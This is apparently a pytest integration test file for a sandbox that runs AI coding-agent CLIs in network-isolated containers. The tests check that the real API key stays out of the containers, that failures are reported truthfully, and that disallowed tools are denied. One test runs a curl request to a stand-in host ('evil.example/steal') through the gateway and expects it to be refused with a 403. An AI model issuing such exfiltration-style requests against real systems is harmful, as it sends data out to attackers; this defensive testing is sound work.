"""The real agent CLIs (claude, codex, droid) in containers, built hermetically from their
fetched packages, reaching their model only through corral's gateway, reported truthfully.

The mock model API is served on the host's 127.0.0.1; the containers have no network (loopback
only): the supervisor (this test process) forwards each request the wrapper's endpoint carries
over stdio. Every container holds a placeholder key only; the mock demands the real one, which
only the gateway has. The first run fetches ~470 MB of packages and builds three agent images
(about a minute each, cold); later runs find both cached.
"""

from __future__ import annotations

import json
import socket
import subprocess
import time

import msgspec
import pytest
import trio
from structlog.testing import capture_logs

from runtime import SupervisorConfig, Task, WorkerSpec, WorkerStartupError, open_supervisor
from tests.mock_model_api import open_mock_model_api

pytestmark = pytest.mark.integration

KEY = "sk-corral-real-agents-5e81c2f7a9"
CREDENTIAL = {"claude": "ANTHROPIC_API_KEY", "codex": "OPENAI_API_KEY", "factory": "OPENAI_API_KEY"}
DEADLINE = 600          # the first run fetches and builds the agent images


def spec(agent: str, mock, **kw) -> WorkerSpec:
    kw.setdefault("secrets", {CREDENTIAL[agent]: KEY})
    kw.setdefault("upstream", mock.url)
    if agent != "claude":
        kw.setdefault("model", "mock-model")
    return WorkerSpec(agent=agent, **kw)


def free_port() -> int:
    """A port on 127.0.0.1 that nothing listens on (connections are refused)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


async def docker_inspect(cid: str) -> str:
    p = await trio.run_process(["docker", "inspect", cid], capture_stdout=True, check=True)
    return p.stdout.decode()


async def envs_inside(engine, cid: str) -> str:
    """The environment of every process in the container (the wrapper's, the agent's)."""
    code, out = await engine.container_exec(
        cid, ["sh", "-c", "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null"])
    return out


@pytest.fixture(scope="module")
def images():
    """Build (or find) the three real-agent images once for the module."""
    from actors.builder import open_image_builder
    from runtime.engines import open_engine

    async def build() -> dict[str, str]:
        async with open_engine() as engine, open_image_builder(engine) as b:
            out = {}
            for agent in ("claude", "codex", "factory"):
                out[agent] = (await b.image_for(agent, [], stub_agent=False)).tag
            return out
    return trio.run(build)


# --- each real CLI completes a task through the gateway -------------------------------------------

@pytest.mark.parametrize("agent", ["claude", "codex", "factory"])
async def test_a_real_agent_completes_a_task_through_the_gateway_and_the_key_stays_out(
        images, engine, corral_name, agent):
    with trio.fail_after(DEADLINE):
        async with open_mock_model_api(expect_key=KEY) as mock:
            with capture_logs() as logs:
                async with open_supervisor(SupervisorConfig(name=corral_name),
                                           engine=engine) as sup:
                    w = await sup.spawn(spec(agent, mock))
                    info = await w.info()
                    cid = info.container_id
                    t0 = time.monotonic()
                    r = await w.run(Task(prompt="Say hello", timeout_s=120))
                    took = time.monotonic() - t0
                    inspect = await docker_inspect(cid)
                    inside = await envs_inside(engine, cid)
                    snapshot = msgspec.json.encode(await sup.snapshot()).decode()
                    ps = json.dumps(msgspec.to_builtins(await sup.snapshot()))
                    info = await w.info()
    assert (r.status, r.failure, r.output.strip()) == ("ok", None, mock.answer), r
    assert r.usage is not None and r.usage.source == "gateway"
    assert (r.usage.input_tokens, r.usage.output_tokens) == (11, 7)
    assert info.usage.output_tokens == 7
    assert mock.model_requests() and all(q.credential == KEY for q in mock.requests)
    assert '"NetworkMode": "none"' in inspect and "CORRAL_GATEWAY=1" in inspect
    for text in (inspect, inside, snapshot, ps, json.dumps(logs, default=repr), repr(r)):
        assert KEY not in text
    assert took < 30


async def test_worker_executes_task_with_mocked_claude(images, engine, corral_name):
    """The seed's test, now on the real claude binary (not a stub)."""
    with trio.fail_after(DEADLINE):
        async with open_mock_model_api(expect_key=KEY, answer="4") as mock:
            async with open_supervisor(SupervisorConfig(name=corral_name), engine=engine) as sup:
                w = await sup.spawn(spec("claude", mock))
                cid = (await w.info()).container_id
                code, version = await engine.container_exec(cid, ["claude", "--version"])
                r = await w.run(Task(prompt="What is 2 + 2?"))
    assert code == 0 and "(Claude Code)" in version and "stub" not in version
    assert (r.status, r.output.strip(), r.exit_code) == ("ok", "4", 0)


# --- truthful failures -----------------------------------------------------------------------

async def test_missing_credentials_are_a_config_error_within_10_s(engine, corral_name):
    t0 = time.monotonic()
    with trio.fail_after(60):
        async with open_supervisor(SupervisorConfig(name=corral_name), engine=engine) as sup:
            with pytest.raises(WorkerStartupError) as ei:
                await sup.spawn(WorkerSpec(agent="claude"))
    assert time.monotonic() - t0 < 10
    assert ei.value.certificate.cause == "config_error"
    assert "ANTHROPIC_API_KEY" in ei.value.certificate.reason


@pytest.mark.parametrize("agent,status,failure", [
    ("claude", 401, "auth_failed"), ("claude", 429, "rate_limited"),
    ("claude", 500, "upstream_error"), ("codex", 401, "auth_failed"),
    ("factory", 429, "rate_limited"), ("factory", 500, "upstream_error"),
])
async def test_an_upstream_failure_ends_the_task_in_seconds(images, engine, corral_name, agent,
                                                            status, failure):
    with trio.fail_after(DEADLINE):
        async with open_mock_model_api(expect_key=KEY) as mock:
            async with open_supervisor(SupervisorConfig(name=corral_name), engine=engine) as sup:
                w = await sup.spawn(spec(agent, mock))
                gen = (await w.info()).generation
                mock.fail_with(status)
                t0 = time.monotonic()
                r = await w.run(Task(prompt="Say hello", timeout_s=300))
                took = time.monotonic() - t0
                mock._failures.clear()
                again = await w.run(Task(prompt="Say hello", timeout_s=120))
                info = await w.info()
    assert (r.status, r.failure) == ("error", failure), r
    assert str(status) in r.error
    assert took < 10                      # not the agent's own minutes of retries
    assert again.status == "ok" and info.generation == gen      # the container stayed


async def test_an_unreachable_upstream(images, engine, corral_name):
    with trio.fail_after(DEADLINE):
        async with open_supervisor(SupervisorConfig(name=corral_name), engine=engine) as sup:
            w = await sup.spawn(WorkerSpec(agent="claude", upstream=f"http://127.0.0.1:{free_port()}",
                                           secrets={"ANTHROPIC_API_KEY": KEY}))
            t0 = time.monotonic()
            r = await w.run(Task(prompt="Say hello", timeout_s=300))
            took = time.monotonic() - t0
    assert (r.status, r.failure) == ("error", "upstream_unreachable"), r
    assert took < 10


async def test_a_stalled_stream_ends_stalled_and_the_container_stays(images, engine, corral_name):
    with trio.fail_after(DEADLINE):
        async with open_mock_model_api(expect_key=KEY) as mock:
            async with open_supervisor(SupervisorConfig(name=corral_name), engine=engine) as sup:
                w = await sup.spawn(spec("claude", mock, stall_timeout_s=5))
                gen = (await w.info()).generation
                mock.stall()
                t0 = time.monotonic()
                r = await w.run(Task(prompt="Say hello", timeout_s=300))
                took = time.monotonic() - t0
                mock.stall(False)
                again = await w.run(Task(prompt="Say hello", timeout_s=120))
                info = await w.info()
    assert (r.status, r.failure) == ("error", "stalled"), r
    assert 5 <= took < 15
    assert again.status == "ok" and info.generation == gen


async def test_a_refused_host_gets_403_and_is_logged(images, engine, corral_name):
    """While a task runs, something in the container asks the endpoint for another host."""
    with trio.fail_after(DEADLINE):
        async with open_mock_model_api(expect_key=KEY) as mock:
            async with open_supervisor(SupervisorConfig(name=corral_name), engine=engine) as sup:
                w = await sup.spawn(spec("claude", mock, stall_timeout_s=30))
                cid = (await w.info()).container_id
                mock.stall()                                  # keeps the task running
                async with trio.open_nursery() as n:
                    n.start_soon(w.run, Task(prompt="Say hello", timeout_s=300))
                    await mock.stalled.wait()
                    with capture_logs() as logs:
                        code, out = await engine.container_exec(cid, [
                            "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                            "-x", "http://127.0.0.1:8787", "http://evil.example/steal"])
                    n.cancel_scope.cancel()
    assert out.strip() == "403"
    assert any(e["event"] == "gateway_refused" and "evil.example" in e.get("target", "")
               for e in logs), logs
    assert not any("evil" in q.path for q in mock.requests)


async def test_a_refused_tool_is_permission_denied(images, engine, corral_name):
    with trio.fail_after(DEADLINE):
        async with open_mock_model_api(expect_key=KEY) as mock:
            mock.tool_use = {"name": "Bash", "input": {"command": "touch corral-probe.txt"}}
            async with open_supervisor(SupervisorConfig(name=corral_name), engine=engine) as sup:
                w = await sup.spawn(spec("claude", mock, permissions="read-only"))
                cid = (await w.info()).container_id
                r = await w.run(Task(prompt="Make a file", timeout_s=120))
                code, _ = await engine.container_exec(cid, ["test", "-e", "/workspace/corral-probe.txt"])
                ok = await sup.spawn(spec("claude", mock, permissions="workspace-write"))
                r2 = await ok.run(Task(prompt="Make a file", timeout_s=120))
    assert (r.status, r.failure) == ("error", "permission_denied"), r
    assert code != 0                                          # nothing was written
    assert (r2.status, r2.failure) == ("ok", None), r2


async def test_a_read_only_rootfs_gets_a_writable_home(images, engine, corral_name):
    with trio.fail_after(DEADLINE):
        async with open_mock_model_api(expect_key=KEY) as mock:
            async with open_supervisor(SupervisorConfig(name=corral_name), engine=engine) as sup:
                results = {}
                for agent in ("codex", "factory"):
                    w = await sup.spawn(spec(agent, mock, read_only_rootfs=True))
                    results[agent] = await w.run(Task(prompt="Say hello", timeout_s=120))
    for agent, r in results.items():
        assert (r.status, r.output.strip()) == ("ok", mock.answer), (agent, r)


async def test_the_agent_benchmarks_run_and_clean_up(images, engine, tmp_path):
    """`python -m runtime.apps.bench_agents --quick` (spawn and gateway; its numbers are not
    asserted: no timed tests)."""
    import sys
    from pathlib import Path
    out = tmp_path / "bench.json"
    root = Path(__file__).resolve().parents[2]
    proc = await trio.to_thread.run_sync(lambda: subprocess.run(
        [sys.executable, "-m", "runtime.apps.bench_agents", "--quick", "--only", "agent-spawn",
         "--only", "gateway", "--json", str(out)], cwd=root, capture_output=True, text=True,
        timeout=300))
    assert proc.returncode == 0, proc.stderr[-3000:]
    results = json.loads(out.read_text())["results"]
    for key in ("agent-spawn", "gateway-burst", "gateway-paced"):
        assert results[key]["met"] is True, results[key]
    assert results["gateway-paced"]["ratio_total_corral_over_direct"] > 0
    assert "summary: all targets met" in proc.stdout
